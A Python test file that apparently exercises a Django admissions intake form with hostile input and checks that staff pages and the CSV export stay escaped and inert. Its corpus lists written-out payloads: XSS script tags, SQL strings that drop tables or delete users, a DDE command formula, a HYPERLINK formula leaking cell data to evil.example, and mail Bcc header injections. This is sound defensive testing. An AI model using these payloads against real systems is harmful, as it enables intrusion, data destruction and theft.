"""Hostile input through the real intake form, and where staff meet it afterwards.

A corpus of bad inputs (markup and script, SQL metacharacters, NUL bytes and
other control characters, invalid UTF-8, very long values, mail header
injection, spreadsheet formulas, emoji and right-to-left text) and a
property-based test of the form. Whatever is sent: never a server error; what
is stored is exactly what the form accepted, escaped on every staff page
(change page, list) and in the CSV export, where no cell can start a formula.
(test_intake_form.py covers field-by-field validation and the size limits.)
"""

import csv
import io
import urllib.parse

import pytest
from django.template.defaultfilters import linebreaksbr
from django.test import Client
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st

from admissions import export
from admissions.forms import IntakeForm
from admissions.models import Intake
from admissions.views import SESSION_REFERENCE_KEY
from tests.admissions.helpers import form_data, signed_start

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("two_factor_off")]

URL = "/admissions/"
LIST = "/admin/admissions/intake/"
FREE_TEXT = ["first_name", "insurance_provider", "insurance_member_id", "message"]
MAX_LENGTH = {name: IntakeForm.base_fields[name].max_length for name in FREE_TEXT}
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
# A tag no page of ours contains: were it ever in a page unescaped, markup got through.
PROBE_TAG = '<b data-probe="1">'
RAW_MARKUP = (PROBE_TAG, "<script>alert", "<img src=x", "<svg/onload", "</textarea><b>")

CORPUS = [
    # Markup and script
    '<script>alert("x")</script>',
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "</textarea><b>bold</b>",
    PROBE_TAG + "probe</b>",
    "javascript:alert(document.cookie)",
    "{{ request.META }}{% debug %}",
    "&lt;already escaped&gt; &amp;",
    # SQL metacharacters
    "'; DROP TABLE admissions_intake; --",
    "' OR '1'='1' --",
    "1); DELETE FROM auth_user; --",
    "\\'; SELECT pg_sleep(10); --",
    "%_%' ESCAPE '\\",
    # Spreadsheet formulas
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "＝1+1",  # full-width equals sign
    # Emoji, right-to-left text and other scripts
    "🙂🧡 👨‍👩‍👧‍👦",
    "מרים כהן",
    "مريم",
    "\u202eevil.exe\u202c",
    "Zoë Ångström-Ðuric",
    "Zeb\u200bulonia\u200d",
    "𝕿𝖊𝖘𝖙 ℌ𝔢𝔩𝔩𝔬",
    "日本語のテキスト",
]
REFUSED = [
    # Invisible control characters, NUL bytes among them
    "\x00",
    "Zeb\x00ulonia",
    "\x1b[31mred\x1b[0m",
    "back\x08space",
    "del\x7f",
    # Line breaks in a one-line field: a mail header injection in waiting
    "Zeb\r\nBcc: evil@example.com",
    "Zeb\nSubject: hacked",
    "Zeb\rX-Injected: 1",
    "Zeb\u2028line separator",
    "Zeb\x85next line",
]


@pytest.fixture(autouse=True)
def _limits(settings):
    # Many submissions from one test client: lift the per-address limits here.
    settings.ADMISSIONS_RATE_LIMIT = "100000/h"
    settings.ADMISSIONS_POST_RATE_LIMIT = "100000/h"
    settings.ADMISSIONS_GLOBAL_LIMIT_PER_MINUTE = 0  # and the ceiling for everyone


@pytest.fixture
def staff(supervisor):
    client = Client()
    client.force_login(supervisor)
    return client


def submit(client, **fields) -> tuple[object, Intake | None]:
    """POST the form; the intake it saved, if any."""
    client.raise_request_exception = False
    response = client.post(URL, form_data(client, **fields))
    intake = None
    if response.status_code == 302:
        intake = Intake.objects.filter(reference=client.session[SESSION_REFERENCE_KEY]).first()
    return response, intake


def exported_row(staff, intake) -> dict[str, str]:
    response = staff.post(LIST, {"action": "export_csv", "_selected_action": [intake.pk]})
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode(), newline="")))
    assert len(rows) == 1
    return rows[0]


def assert_shown_escaped(staff, intake) -> None:
    """The change page shows each stored text escaped; no page shows raw markup; the
    export holds each value, made inert where a spreadsheet would run it."""
    change = staff.get(f"{LIST}{intake.pk}/change/")
    assert change.status_code == 200
    page = change.content.decode()
    listing = staff.get(LIST).content.decode()
    for name in [*FREE_TEXT, "email"]:
        value = getattr(intake, name)
        if value.strip():
            assert str(linebreaksbr(value)) in page, name
    for html in (page, listing):
        for markup in RAW_MARKUP:
            assert markup not in html

    row = exported_row(staff, intake)
    exported = {
        "First name": intake.first_name,
        "Email": intake.email,
        "Insurance provider": intake.insurance_provider,
        "Insurance member ID": intake.insurance_member_id,
        "Phone": intake.phone,
    }
    for column, value in exported.items():
        assert row[column] == export.spreadsheet_safe(value), column
    assert "Message" not in row
    for cell in row.values():
        assert not cell.startswith(FORMULA_PREFIXES), cell


# --- The corpus ----------------------------------------------------------------------------


@pytest.mark.parametrize("value", CORPUS)
def test_hostile_text_is_stored_as_sent_and_shown_escaped_to_staff(client, staff, value):
    fields = {name: value[: MAX_LENGTH[name]] for name in FREE_TEXT}
    response, intake = submit(client, **fields)
    assert response.status_code == 302
    assert intake is not None
    for name, sent in fields.items():
        assert getattr(intake, name) == sent.strip(), name
    assert_shown_escaped(staff, intake)


@pytest.mark.parametrize(
    "email",
    [
        "=1+1@example.com",
        "+spam@example.com",
        "-x@example.com",
        '"<script>"@example.com',
        "o'brien@example.com",
        "zoe@exämple.com",
    ],
)
def test_hostile_but_valid_email_is_shown_escaped_and_exported_inert(client, staff, email):
    response, intake = submit(client, email=email)
    assert response.status_code == 302
    assert intake.email
    assert_shown_escaped(staff, intake)


@pytest.mark.parametrize("value", REFUSED)
@pytest.mark.parametrize("field", ["first_name", "insurance_provider", "insurance_member_id"])
def test_control_characters_and_line_breaks_in_one_line_fields_are_refused(client, field, value):
    response, intake = submit(client, **{field: value})
    assert response.status_code == 200
    assert list(response.context["form"].errors) == [field]
    assert not Intake.objects.exists()


@pytest.mark.parametrize(
    "email", ["zeb@example.com\r\nBcc: evil@example.com", "zeb@example.com\nCc: x@y.z"]
)
def test_line_breaks_in_the_email_are_refused(client, email):
    response, _ = submit(client, email=email)
    assert response.status_code == 200
    assert list(response.context["form"].errors) == ["email"]
    assert not Intake.objects.exists()


def test_visitor_text_never_reaches_a_header_of_the_navigator_mail(
    client, navigator, mailoutbox, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        response, intake = submit(
            client,
            message="Hello\r\nBcc: evil@example.com\r\nSubject: hacked\r\n\r\nbody",
            first_name="Bcc: evil@example.com",
            email="evil@example.com",
        )
    assert response.status_code == 302
    [mail] = mailoutbox
    assert mail.to == [navigator.email] and not mail.cc and not mail.bcc
    assert mail.subject == f"Intake {intake.reference} waiting"
    raw = mail.message().as_bytes()
    assert b"evil@example.com" not in raw and b"hacked" not in raw


def test_line_breaks_in_the_message_are_kept_and_shown_as_breaks(client, staff):
    response, intake = submit(client, message="line one\r\n<i>line two</i>\rline three")
    assert response.status_code == 302
    assert intake.message == "line one\r\n<i>line two</i>\rline three"
    page = staff.get(f"{LIST}{intake.pk}/change/").content.decode()
    assert "line one<br>&lt;i&gt;line two&lt;/i&gt;<br>line three" in page


def test_markup_in_a_staff_note_is_shown_escaped_on_the_timeline(client, staff, supervisor):
    _, intake = submit(client)
    note = '<script>alert("note")</script>\n' + PROBE_TAG
    response = staff.post(
        f"{LIST}{intake.pk}/change/",
        {
            "status": intake.status,
            "assigned_to": "",
            "activities-TOTAL_FORMS": "1",
            "activities-INITIAL_FORMS": "0",
            "activities-MIN_NUM_FORMS": "0",
            "activities-MAX_NUM_FORMS": "1",
            "activities-0-kind": "note",
            "activities-0-note": note,
            "_continue": "Save",
        },
    )
    assert response.status_code == 302
    page = staff.get(f"{LIST}{intake.pk}/change/").content.decode()
    assert "&lt;script&gt;alert(&quot;note&quot;)&lt;/script&gt;<br>&lt;b data-probe" in page
    assert PROBE_TAG not in page and '<script>alert("note")' not in page


# --- Bytes that are not what they claim -------------------------------------------------


def raw_post(client, body: bytes, content_type: str):
    client.raise_request_exception = False
    return client.generic("POST", URL, body, content_type=content_type)


def urlencoded(fields: dict, raw: dict[str, bytes]) -> bytes:
    """The form as an urlencoded body, with some values given as raw bytes."""
    parts = [urllib.parse.urlencode(fields, doseq=True)]
    parts += [f"{name}={urllib.parse.quote_from_bytes(value)}" for name, value in raw.items()]
    return "&".join(parts).encode("ascii")


INVALID_UTF8 = [b"\xff\xfe", b"Zeb\xc3\x28ulonia", b"\xed\xa0\x80", b"\xc0\xbc script", b"\x80"]


@pytest.mark.parametrize("raw", INVALID_UTF8)
@pytest.mark.parametrize("field", [*FREE_TEXT, "phone", "email", "who_needs_help"])
def test_invalid_utf8_in_any_field_is_never_a_server_error(client, staff, field, raw):
    fields = form_data()
    del fields[field]
    response = raw_post(
        client, urlencoded(fields, {field: raw}), "application/x-www-form-urlencoded"
    )
    assert response.status_code in {200, 302}
    if response.status_code == 302:
        intake = Intake.objects.get()
        assert "\ufffd" in getattr(intake, field)  # decoded with replacement characters
        assert_shown_escaped(staff, intake)


@pytest.mark.parametrize("raw", INVALID_UTF8)
def test_invalid_utf8_in_a_multipart_post_is_never_a_server_error(client, raw):
    boundary = "hostile-boundary"
    body = b""
    for name, value in [*form_data().items(), ("first_name", raw)]:
        for item in value if isinstance(value, list) else [value]:
            data = item if isinstance(item, bytes) else str(item).encode()
            body += (
                f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n'.encode()
                + data
                + b"\r\n"
            )
    body += f"--{boundary}--\r\n".encode()
    response = raw_post(client, body, f"multipart/form-data; boundary={boundary}")
    assert response.status_code in {200, 302}


@pytest.mark.parametrize(
    ("body", "content_type"),
    [
        (b"first_name=a", "application/x-www-form-urlencoded; charset=no-such-charset"),
        ("first_name=Zeb".encode("utf-16"), "application/x-www-form-urlencoded; charset=utf-16"),
        (b"--x\r\nbroken", "multipart/form-data; boundary=x"),
        (b"first_name=a", "multipart/form-data"),  # no boundary
        (b'{"first_name": "Zeb"}', "application/json"),
        (b"\x00" * 2000, "application/octet-stream"),
    ],
)
def test_malformed_bodies_get_an_answer_never_a_server_error(client, body, content_type):
    response = raw_post(client, body, content_type)
    assert response.status_code in {200, 302, 400}
    assert not Intake.objects.exists()


def test_too_many_fields_get_a_friendly_400_page(client):
    body = "&".join(f"field{i}=1" for i in range(500)).encode()
    response = raw_post(client, body, "application/x-www-form-urlencoded")
    assert response.status_code == 400
    html = response.content.decode()
    assert 'href="tel:' in html and "Traceback" not in html


def test_values_at_the_length_limits_are_stored_whole(client, staff):
    fields = {name: ("Ж" * MAX_LENGTH[name]) for name in FREE_TEXT}
    response, intake = submit(client, **fields)
    assert response.status_code == 302
    for name, value in fields.items():
        assert getattr(intake, name) == value
    assert_shown_escaped(staff, intake)


# --- Any input at all ------------------------------------------------------------------------

# Characters that mean something to HTML, SQL, shells, spreadsheets or text
# direction, and printable ones from other scripts.
PRINTABLE_HOSTILE = list("<>&\"'`=+-@;%_\\/|!{}()[]#* ") + [
    "🙂", "ש", "م", "Ж", "ß", "ﬁ", "\U0001d54b", "\u202e", "\u200b", "\ufeff",
]  # fmt: skip
INVISIBLE = list("\t\r\n\x00\x1b\x7f\x85\u2028")
HOSTILE_ALPHABET = st.sampled_from(PRINTABLE_HOSTILE + INVISIBLE)
text = st.one_of(
    st.text(max_size=80),
    st.text(HOSTILE_ALPHABET, max_size=80),
    st.sampled_from(CORPUS + REFUSED),
    st.builds(lambda a, b: a + b, st.sampled_from(CORPUS), st.text(HOSTILE_ALPHABET, max_size=20)),
)


def one_line_text(max_size: int):
    """Text a one-line field accepts, all of it hostile."""
    made_up = st.text(st.sampled_from(PRINTABLE_HOSTILE), max_size=max_size)
    corpus = st.sampled_from(CORPUS).map(lambda value: value[:max_size])
    return st.one_of(made_up, corpus).filter(str.strip)


# Addresses the email field accepts, their local part made of the characters
# mail allows there and spreadsheets or shells do not like.
hostile_email = st.text(st.sampled_from("=+-'&{}|!#$%*/?^`~_"), min_size=1, max_size=30).map(
    "{}@example.com".format
)


def valid_choice(field: str):
    return st.sampled_from([value for value, _ in IntakeForm.base_fields[field].choices if value])


def choice_or_junk(field: str):
    return st.one_of(valid_choice(field), text)


CHOICE_FIELDS = ["contact_method", "best_time", "voicemail_ok", "who_needs_help", "state"]

# Anything at all in every field.
any_post = st.fixed_dictionaries(
    {
        "first_name": text,
        "phone": st.one_of(st.just("(415) 555-2671"), text),
        "email": st.one_of(st.just(""), st.emails(), text),
        **{field: choice_or_junk(field) for field in CHOICE_FIELDS},
        "substances": st.lists(choice_or_junk("substances"), max_size=3),
        "insurance_provider": text,
        "insurance_member_id": text,
        "message": st.one_of(text, st.text(HOSTILE_ALPHABET, min_size=900, max_size=1100)),
        "source": st.one_of(st.just("naltrexone"), text),
        "consent": st.sampled_from(["on", ""]),
    }
)
# A well-formed form whose free text (and email) is hostile: most of these are saved.
hostile_text_post = st.fixed_dictionaries(
    {
        "first_name": one_line_text(MAX_LENGTH["first_name"]),
        "email": st.one_of(st.just(""), st.emails(), hostile_email),
        "insurance_provider": one_line_text(MAX_LENGTH["insurance_provider"]),
        "insurance_member_id": one_line_text(MAX_LENGTH["insurance_member_id"]),
        "message": st.text(
            st.sampled_from([*PRINTABLE_HOSTILE, "\t", "\r", "\n", "\u2028"]),
            max_size=MAX_LENGTH["message"],
        ),
        **{field: valid_choice(field) for field in CHOICE_FIELDS},
    }
)
HYPOTHESIS = settings(
    max_examples=100,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


@HYPOTHESIS
@given(fields=any_post)
def test_any_post_of_the_form_gets_an_answer_and_a_redirect_only_when_saved(client, fields):
    before = Intake.objects.count()
    response, intake = submit(client, **fields, started=signed_start(client=client))
    event("saved" if intake else "refused")
    assert response.status_code in {200, 302}
    assert (response.status_code == 302) == (intake is not None)
    assert Intake.objects.count() == before + (intake is not None)
    page = response.content.decode()
    for markup in RAW_MARKUP:
        assert markup not in page  # the form shown again never echoes markup raw


@HYPOTHESIS
@given(fields=hostile_text_post)
def test_whatever_the_form_accepts_is_stored_as_cleaned_and_shown_escaped(client, staff, fields):
    response, intake = submit(client, **fields, started=signed_start(client=client))
    event("saved" if intake else "refused")
    form = IntakeForm(form_data(**fields))
    assert (intake is not None) == form.is_valid()
    if intake is not None:
        for name in [*FREE_TEXT, "email"]:
            assert getattr(intake, name) == form.cleaned_data[name]
        assert_shown_escaped(staff, intake)


def test_csv_cells_are_inert_for_every_formula_prefix_sent_through_the_form(client, staff):
    for prefix in ("=", "+", "-", "@"):
        _, intake = submit(
            client,
            first_name=f"{prefix}A1",
            insurance_provider=f"{prefix}1+1",
            insurance_member_id=f'{prefix}HYPERLINK("http://x")',
            email=f"{prefix}1@example.com" if prefix != "@" else "",  # "@x@y" is no address
        )
        row = exported_row(staff, intake)
        for column in ("First name", "Insurance provider", "Insurance member ID"):
            assert row[column].startswith("'" + prefix), column
        assert row["Email"] == ("" if prefix == "@" else f"'{prefix}1@example.com")


def test_sql_metacharacters_in_the_search_box_find_nothing_and_break_nothing(staff, client):
    _, intake = submit(client)
    for term in ["' OR '1'='1", "%", "_", "CR-' --", "CR-%", "<script>"]:
        response = staff.get(LIST, {"q": term})
        assert response.status_code == 200
        assert intake.reference not in response.content.decode()
